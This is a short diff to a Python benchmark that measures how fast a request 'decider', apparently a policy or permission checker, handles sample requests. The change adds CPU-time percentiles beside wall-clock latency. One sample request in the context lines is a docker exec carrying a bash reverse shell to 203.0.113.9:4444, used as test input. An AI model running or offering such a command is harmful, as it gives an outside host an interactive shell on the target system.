@@ -78,13 +78,15 @@ def core(n: int) -> None:
             Request("docker", "exec", container="web", argv=["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]),
         ),
     ):
-        times = []
+        times, cpu_times = [], []
         for _ in range(n):
-            start = time.perf_counter()
+            start, cpu_start = time.perf_counter(), time.thread_time()
             decider.decide(req)
+            cpu_times.append(time.thread_time() - cpu_start)
             times.append(time.perf_counter() - start)
-        q = statistics.quantiles(times, n=100)
-        print(f"{name:32}              p50 {q[49] * 1e3:.2f} ms  p99 {q[98] * 1e3:.2f} ms  max {max(times) * 1e3:.2f} ms")
+        q, c = statistics.quantiles(times, n=100), statistics.quantiles(cpu_times, n=100)
+        print(f"{name:32}              p50 {q[49] * 1e3:.2f} ms  p99 {q[98] * 1e3:.2f} ms  max {max(times) * 1e3:.2f} ms"
+              f"  (CPU p50 {c[49] * 1e3:.2f} ms, p99 {c[98] * 1e3:.2f} ms)")  # fmt: skip
 
 
 def main(argv: list[str] | None = None) -> int:
